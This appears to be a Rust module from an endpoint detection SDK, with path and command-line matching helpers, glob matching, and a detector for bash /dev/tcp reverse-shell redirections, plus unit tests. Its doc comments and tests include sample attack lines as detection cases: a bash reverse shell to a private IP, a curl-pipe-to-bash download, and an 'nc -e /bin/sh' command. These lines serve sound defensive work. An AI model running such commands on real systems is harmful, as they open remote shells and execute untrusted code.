//! Matching helpers for paths and command lines.
//!
//! All `_ci` functions compare ASCII case-insensitively without allocating,
//! which is what detection on Linux command lines usually wants.

/// The last component of a path (`bash` for `/usr/bin/bash`).
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The directory part of a path (`/usr/bin` for `/usr/bin/bash`, `/` for `/x`).
pub fn dirname(path: &str) -> &str {
    match path.rfind('/') {
        Some(0) => "/",
        Some(i) => &path[..i],
        None => "",
    }
}

/// ASCII case-insensitive equality.
pub fn eq_ci(a: &str, b: &str) -> bool {
    a.eq_ignore_ascii_case(b)
}

/// ASCII case-insensitive `contains`.
pub fn contains_ci(haystack: &str, needle: &str) -> bool {
    let (h, n) = (haystack.as_bytes(), needle.as_bytes());
    if n.is_empty() {
        return true;
    }
    if n.len() > h.len() {
        return false;
    }
    let first = n[0].to_ascii_lowercase();
    (0..=h.len() - n.len()).any(|i| h[i].to_ascii_lowercase() == first && h[i..i + n.len()].eq_ignore_ascii_case(n))
}

/// ASCII case-insensitive `starts_with`.
pub fn starts_with_ci(s: &str, prefix: &str) -> bool {
    s.len() >= prefix.len() && s.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
}

/// ASCII case-insensitive `ends_with`.
pub fn ends_with_ci(s: &str, suffix: &str) -> bool {
    s.len() >= suffix.len() && s.as_bytes()[s.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
}

/// True when `s` contains any of `needles` (case-insensitive).
pub fn contains_any_ci(s: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| contains_ci(s, n))
}

/// True when `s` contains every one of `needles` (case-insensitive).
pub fn contains_all_ci(s: &str, needles: &[&str]) -> bool {
    needles.iter().all(|n| contains_ci(s, n))
}

/// Glob match for paths: `*` matches within one path component, `**` matches
/// across components, `?` matches one character other than `/`, and `\`
/// escapes the next character. Case-sensitive, as Linux paths are.
///
/// ```
/// use edr_sdk::matchers::glob;
/// assert!(glob("/home/*/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys"));
/// assert!(!glob("/home/*/.ssh/authorized_keys", "/home/a/b/.ssh/authorized_keys"));
/// assert!(glob("/etc/**/*.conf", "/etc/a/b/c.conf"));
/// assert!(glob("/etc/cron.*/*", "/etc/cron.daily/backdoor"));
/// ```
pub fn glob(pattern: &str, text: &str) -> bool {
    glob_bytes(pattern.as_bytes(), text.as_bytes(), false)
}

/// Glob match for command lines and names: `*` matches any run of
/// characters (slashes included), `?` any one character, `\` escapes; ASCII
/// case is ignored.
///
/// ```
/// use edr_sdk::matchers::glob_ci;
/// assert!(glob_ci("*CURL * | *sh*", "curl -s http://x/y.sh | bash"));
/// ```
pub fn glob_ci(pattern: &str, text: &str) -> bool {
    glob_bytes(pattern.as_bytes(), text.as_bytes(), true)
}

/// `text_mode` (used by [`glob_ci`]) makes `*` and `?` cross `/` and ignores case.
fn glob_bytes(p: &[u8], t: &[u8], text_mode: bool) -> bool {
    if !text_mode && p.windows(2).any(|w| w == b"**") {
        glob_recursive(p, t)
    } else {
        glob_linear(p, t, text_mode)
    }
}

/// Linear-time wildcard matching for patterns whose stars are all of one
/// class: backtracking to the last star is then enough. (In path mode a star
/// never crosses `/`, so the pattern's slashes pin its segments.)
fn glob_linear(p: &[u8], t: &[u8], text_mode: bool) -> bool {
    let eq = |a: u8, b: u8| if text_mode { a.eq_ignore_ascii_case(&b) } else { a == b };
    let (mut pi, mut ti) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None; // (pattern index after the star, text index)
    while ti < t.len() {
        if pi < p.len() {
            match p[pi] {
                b'*' => {
                    pi += 1;
                    star = Some((pi, ti));
                    continue;
                }
                b'?' if text_mode || t[ti] != b'/' => {
                    pi += 1;
                    ti += 1;
                    continue;
                }
                b'\\' if pi + 1 < p.len() && eq(p[pi + 1], t[ti]) => {
                    pi += 2;
                    ti += 1;
                    continue;
                }
                c if c != b'\\' && c != b'*' && c != b'?' && eq(c, t[ti]) => {
                    pi += 1;
                    ti += 1;
                    continue;
                }
                _ => {}
            }
        }
        // Mismatch: let the last star swallow one more character.
        match star {
            Some((sp, st)) if text_mode || t[st] != b'/' => {
                star = Some((sp, st + 1));
                pi = sp;
                ti = st + 1;
            }
            _ => return false,
        }
    }
    p[pi..].iter().all(|&c| c == b'*')
}

/// Path patterns with `**`: recursive, trying each place a star may end.
/// `*` stays within a component; `**` crosses components and `**/` may match
/// no directory at all. Paths are short, so the backtracking stays cheap.
fn glob_recursive(p: &[u8], t: &[u8]) -> bool {
    match p.first() {
        None => t.is_empty(),
        Some(b'*') => {
            let double = p.get(1) == Some(&b'*');
            let rest = if double { &p[2..] } else { &p[1..] };
            if double && rest.first() == Some(&b'/') && glob_recursive(&rest[1..], t) {
                return true;
            }
            for i in 0..=t.len() {
                if glob_recursive(rest, &t[i..]) {
                    return true;
                }
                if i < t.len() && !double && t[i] == b'/' {
                    break;
                }
            }
            false
        }
        Some(b'?') => !t.is_empty() && t[0] != b'/' && glob_recursive(&p[1..], &t[1..]),
        Some(b'\\') if p.len() > 1 => !t.is_empty() && p[1] == t[0] && glob_recursive(&p[2..], &t[1..]),
        Some(&c) => !t.is_empty() && c == t[0] && glob_recursive(&p[1..], &t[1..]),
    }
}

/// True when a command line redirects a file descriptor onto bash's network
/// pseudo-files (`>& /dev/tcp/h/p`, `0<>/dev/udp/h/p`, `exec 5<>/dev/tcp/...`):
/// the redirection, not the program's name, is the tell, so a renamed shell
/// is caught and `grep /dev/tcp/ file` is not.
///
/// ```
/// use edr_sdk::matchers::redirects_to_dev_net;
/// assert!(redirects_to_dev_net("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
/// assert!(redirects_to_dev_net("exec 5<>/dev/udp/h/53"));
/// assert!(!redirects_to_dev_net("grep -r /dev/tcp/ /etc"));
/// ```
pub fn redirects_to_dev_net(cmdline: &str) -> bool {
    let b = cmdline.as_bytes();
    ["/dev/tcp/", "/dev/udp/"].iter().any(|pat| {
        let mut from = 0;
        while let Some(pos) = cmdline[from..].find(pat) {
            let at = from + pos;
            let before = b[..at].iter().rev().find(|c| !c.is_ascii_whitespace());
            if matches!(before, Some(b'>' | b'<' | b'&')) {
                return true;
            }
            from = at + pat.len();
        }
        false
    })
}

/// Well-known interactive shells.
pub const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "ash", "busybox"];

/// True when `name` (a file name, not a path) is a shell.
pub fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// True when the path lies under `dir` (`dir` given without a trailing slash).
pub fn is_under(path: &str, dir: &str) -> bool {
    path.len() > dir.len() && path.starts_with(dir) && path.as_bytes()[dir.len()] == b'/'
}

/// True when any component of the path (other than the last) starts with a
/// dot: `/tmp/.x/payload`, `/home/a/.cache/.hidden/bin`.
pub fn in_hidden_dir(path: &str) -> bool {
    let dir = dirname(path);
    dir.split('/').any(|c| c.len() > 1 && c.starts_with('.') && c != "..")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case_insensitive_helpers() {
        assert!(contains_ci("BASH -I", "bash -i"));
        assert!(!contains_ci("bas", "bash"));
        assert!(contains_ci("x", ""));
        assert!(starts_with_ci("/TMP/x", "/tmp/"));
        assert!(ends_with_ci("a.SH", ".sh"));
        assert!(!ends_with_ci("sh", ".sh"));
        assert!(contains_all_ci("nc -e /bin/sh 1.2.3.4", &["nc", "-e"]));
    }

    #[test]
    fn globs() {
        assert!(glob("/tmp/*", "/tmp/x"));
        assert!(!glob("/tmp/*", "/tmp/a/b"));
        assert!(glob("/tmp/**", "/tmp/a/b"));
        assert!(glob("/home/**/.bashrc", "/home/.bashrc"));
        assert!(glob("/home/**/.bashrc", "/home/u/x/.bashrc"));
        assert!(glob("*.s?", "a.sh"));
        assert!(!glob("*.s?", "a.s"));
        assert!(glob(r"/a\*b", "/a*b"));
        assert!(!glob(r"/a\*b", "/axb"));
        assert!(glob_ci("*BASH*", "/usr/bin/bash"));
        assert!(glob("", ""));
        assert!(!glob("", "a"));
    }

    #[test]
    fn paths() {
        assert_eq!(basename("/usr/bin/bash"), "bash");
        assert_eq!(basename("bash"), "bash");
        assert_eq!(dirname("/x"), "/");
        assert_eq!(dirname("/usr/bin/bash"), "/usr/bin");
        assert!(is_under("/tmp/x", "/tmp"));
        assert!(!is_under("/tmpx", "/tmp"));
        assert!(in_hidden_dir("/tmp/.x/payload"));
        assert!(!in_hidden_dir("/tmp/x/.payload"));
        assert!(!in_hidden_dir("/usr/bin/../x"));
    }
}
